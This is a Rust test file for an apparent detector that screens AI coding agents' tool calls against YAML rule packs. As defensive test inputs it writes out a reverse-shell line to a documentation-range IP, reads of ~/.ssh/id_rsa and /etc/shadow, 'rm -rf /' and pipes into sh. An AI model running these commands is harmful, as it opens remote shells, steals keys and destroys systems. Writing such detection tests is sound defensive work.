//! What holds for the engine as a whole, and for the packs that come with the program.

use std::collections::BTreeSet;

use defenseclaw_model::call::ToolCall;
use defenseclaw_model::decision::Severity;
use defenseclaw_model::facts::Facts;
use defenseclaw_yaml::Text;
use serde_json::{Value, json};

use super::FactRules;
use super::check::call_of;
use super::node::Ask;
use super::schema::{Sample, SampleCall};
use super::view::View;
use crate::detector::{Detector, PackError};
use crate::facts::facts_of;
use crate::packs::{Kinds, whole};

fn embedded() -> FactRules {
    let packs = whole().unwrap();
    FactRules::load(&Kinds::of(&packs).unwrap().facts).unwrap()
}

fn sampled(tool: &str, input: Value) -> (ToolCall, Facts) {
    let sample = Sample::Call(SampleCall {
        tool: tool.to_owned(),
        input,
        cwd: None,
    });
    with_facts(&sample)
}

fn with_facts(sample: &Sample) -> (ToolCall, Facts) {
    let (call, cwd) = call_of(sample).unwrap();
    let facts = facts_of(&call, Some(&cwd), Some("/home/u"));
    (call, facts)
}

#[test]
fn every_rule_passes_its_own_tests() {
    let report = embedded().check();
    let failures = report.failures;
    assert!(
        failures.is_empty(),
        "{} of {} samples\n{}",
        failures.len(),
        report.samples,
        failures.join("\n")
    );
    assert!(
        report.rules > 200 && report.samples > 1000,
        "{} rules, {} samples",
        report.rules,
        report.samples
    );
}

/// The index must never hide a rule that would match.
#[test]
fn the_index_finds_what_asking_every_rule_finds() {
    let rules = embedded();
    for sample in rules
        .rules
        .iter()
        .flat_map(|rule| rule.tests.positive.iter().chain(&rule.tests.negative))
    {
        let (call, facts) = with_facts(sample);
        let mut indexed = BTreeSet::new();
        rules.each(&call, &facts, |rule, _| {
            indexed.insert(rule.id.clone());
        });
        let view = View::new(&call, &facts, &rules.names);
        let literals = rules.literals_in(&view);
        let all: BTreeSet<String> = rules
            .rules
            .iter()
            .filter(|rule| {
                let mut ask = Ask {
                    view: &view,
                    literals: &literals,
                    seen: Vec::new(),
                };
                ask.holds(&rule.when) && !rule.unless.as_ref().is_some_and(|unless| ask.holds(unless))
            })
            .map(|rule| rule.id.clone())
            .collect();
        assert_eq!(indexed, all, "{sample:?}");
    }
}

/// What developers' agents do all day must be neither refused nor asked about.
#[test]
fn everyday_calls_are_left_alone() {
    let rules = embedded();
    let mut wrong = Vec::new();
    let lists = [include_str!("everyday.txt"), include_str!("everyday_other.txt")];
    for text in lists
        .iter()
        .flat_map(|list| list.lines())
        .filter(|line| !line.is_empty())
    {
        let (call, facts) = with_facts(&Sample::Command(text.to_owned()));
        for finding in rules.find(&call, &facts) {
            let (severity, confidence) = (finding.severity, finding.confidence);
            if severity >= Severity::High || (severity == Severity::Medium && confidence >= 70) {
                wrong.push(format!("{text}\n    {} {severity:?} {confidence}", finding.rule));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn findings_say_what_was_seen_and_never_what_was_written() {
    let rules = embedded();
    let (call, facts) = sampled(
        "Write",
        json!({"file_path": "x.sh", "content": "KEY=hunter2-hunter2; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}),
    );
    let findings = rules.find(&call, &facts);
    assert!(!findings.is_empty());
    for finding in findings {
        let shown = format!("{} {:?}", finding.message, finding.evidence);
        assert!(
            !shown.contains("hunter2") && !shown.contains("bash -i"),
            "{shown}"
        );
    }
    let (call, facts) = with_facts(&Sample::Command("cat ~/.ssh/id_rsa".to_owned()));
    let finding = rules
        .find(&call, &facts)
        .into_iter()
        .find(|finding| finding.rule == "credential.read")
        .unwrap();
    assert_eq!(
        finding.message,
        "Bash would read /home/u/.ssh/id_rsa, a private key for SSH, GnuPG or TLS"
    );
    assert!(finding.evidence.contains(&"/home/u/.ssh/id_rsa".to_owned()));
    assert!(!finding.remedy.is_empty());
}

#[test]
fn a_call_that_says_nothing_has_no_finding() {
    let rules = embedded();
    for (tool, input) in [
        ("Task", json!({"prompt": "look at the tests"})),
        ("TodoWrite", Value::Null),
        ("", json!([1, 2, {"a": null}])),
    ] {
        let (call, facts) = sampled(tool, input);
        assert_eq!(rules.find(&call, &facts), Vec::new(), "{tool}");
    }
}

/// Nothing here is measured in time: that these come to an end at all, and are bounded, is what is shown.
#[test]
fn hostile_inputs_are_read_to_an_end() {
    let rules = embedded();
    let mut deep = json!("x");
    for _ in 0..200 {
        deep = json!([deep]);
    }
    for input in [
        json!({"content": "curl ".repeat(2 << 20), "file_path": "a"}),
        json!({"content": "(".repeat(1 << 20), "file_path": "CLAUDE.md"}),
        json!({"a": deep}),
        json!(
            (0..100_000)
                .map(|n| format!("/etc/shadow{n}"))
                .collect::<Vec<_>>()
        ),
        json!({"command": "| sh ".repeat(200_000)}),
        json!({"command": format!("cat {}", "~/.ssh/id_rsa ".repeat(50_000))}),
        json!({"command": "a".repeat(10 << 20)}),
    ] {
        for tool in ["Bash", "Write", "mcp__x__y"] {
            let (call, facts) = sampled(tool, input.clone());
            assert!(rules.find(&call, &facts).len() <= super::MAX_FINDINGS);
        }
    }
}

fn pack(rule: &str) -> String {
    format!("version: 1\nkind: facts\ncategory: command\nrules:\n{rule}")
}

const GOOD: &str = "  - {id: a, severity: LOW, confidence: 1, message: m, when: {run: ls}, tests: {positive: [ls], negative: [cd]}}\n";

#[test]
fn a_bad_pack_is_refused_by_file_rule_and_line() {
    let rule = |text: &str| {
        pack(&format!(
            "  - {{id: a, severity: LOW, confidence: 1, message: m, {text}}}\n"
        ))
    };
    let tests = "tests: {positive: [ls], negative: [cd]}";
    for (yaml, wanted) in [
        (
            pack(&format!("{GOOD}{GOOD}")),
            vec!["\"a\"", "line 6", "another rule has this id"],
        ),
        (
            rule("when: {run: ls}, tests: {positive: [], negative: [cd]}"),
            vec!["line 5", "no test"],
        ),
        (
            rule(&format!("when: {{run: {{re: '('}}}}, {tests}")),
            vec!["\"a\"", "line 5", "regular expression \"(\""],
        ),
        (
            rule(&format!("when: {{runs: ls}}, {tests}")),
            vec!["runs", "line 5"],
        ),
        (
            rule(&format!("when: {{not: [{{run: ls}}]}}, {tests}")),
            vec!["\"a\"", "nothing in `when`"],
        ),
        (
            rule(&format!("when: {{run: '@nowhere'}}, {tests}")),
            vec!["no list \"nowhere\""],
        ),
        (
            rule(&format!("when: {{reads: no-class}}, {tests}")),
            vec!["\"no-class\" is no class"],
        ),
        (
            rule(&format!("when: {{content: ab}}, {tests}")),
            vec!["too short"],
        ),
        (
            rule(&format!("when: {{content: {{re: abc}}}}, {tests}")),
            vec!["has"],
        ),
        (
            rule(&format!("when: {{}}, {tests}")),
            vec!["a condition is empty"],
        ),
        (
            rule(&format!("when: {{does: flying/high}}, {tests}")),
            vec!["flying"],
        ),
        (
            rule(&format!("when: {{run: ls}}, confidences: 3, {tests}")),
            vec!["confidences", "line 5"],
        ),
        (
            rule(&format!("when: {{run: ls}}, category: odd, {tests}")),
            vec!["\"odd\" is no category"],
        ),
        (pack(GOOD).replace("message: m", "message: 'm {x}'"), vec!["{x}"]),
        (
            pack(GOOD).replace("confidence: 1", "confidence: 101"),
            vec!["101"],
        ),
        (pack(GOOD).replace("version: 1", "version: 2"), vec!["version 2"]),
        (pack(GOOD).replace("id: a", "id: A b"), vec!["lower-case"]),
    ] {
        let error = FactRules::load(&[("x.yaml", Text::Yaml(&yaml))]).err().unwrap();
        let PackError::Invalid { file, why } = &error else {
            panic!("{error}")
        };
        assert_eq!(file, "x.yaml");
        for part in wanted {
            assert!(why.contains(part), "{yaml}\n{why}\nlacks {part:?}");
        }
    }
    assert!(FactRules::load(&[("x.yaml", Text::Yaml(&pack(GOOD)))]).is_ok());
}

#[test]
fn a_detector_is_made_from_a_folder_or_says_why_not() {
    let folder = tempfile::tempdir().unwrap();
    let refused = |why: &str| {
        let error = Detector::from_dir(folder.path()).err().unwrap().to_string();
        assert!(error.contains(why), "{error}");
    };
    refused("holds no *.yaml");
    std::fs::write(folder.path().join("x.yaml"), "version: 1\nkind: odd\n").unwrap();
    refused("x.yaml");
    std::fs::write(folder.path().join("x.yaml"), pack(GOOD)).unwrap();
    std::fs::write(folder.path().join("notes.txt"), "not a pack").unwrap();
    let detector = Detector::from_dir(folder.path()).unwrap();
    assert_eq!(detector.revision().len(), 12);
    assert_ne!(detector.revision(), Detector::embedded().unwrap().revision());
    let report = Detector::test_packs(folder.path()).unwrap();
    assert_eq!(
        (report.rules, report.samples, report.failures),
        (1, 2, Vec::new())
    );
    std::fs::write(folder.path().join("x.yaml"), pack(GOOD).replace("[ls]", "[cd]")).unwrap();
    let failures = Detector::test_packs(folder.path()).unwrap().failures;
    assert_eq!(failures, ["x.yaml:5: a misses: cd"]);
}

#[test]
fn a_tool_servers_command_is_read_as_a_command() {
    let detector = Detector::embedded().unwrap();
    for input in [
        json!({"command": "rm -rf /"}),
        json!({"cmd": ["bash", "-lc", "rm -rf /"]}),
    ] {
        let (call, facts) = sampled("mcp__terminal__run", input);
        let findings = detector.call(&call, &facts);
        assert!(
            findings
                .iter()
                .any(|finding| finding.rule == "damage.system-tree"),
            "{findings:?}"
        );
    }
    let (call, facts) = sampled("mcp__terminal__run", json!({"command": "cargo test"}));
    assert_eq!(detector.call(&call, &facts), Vec::new());
}
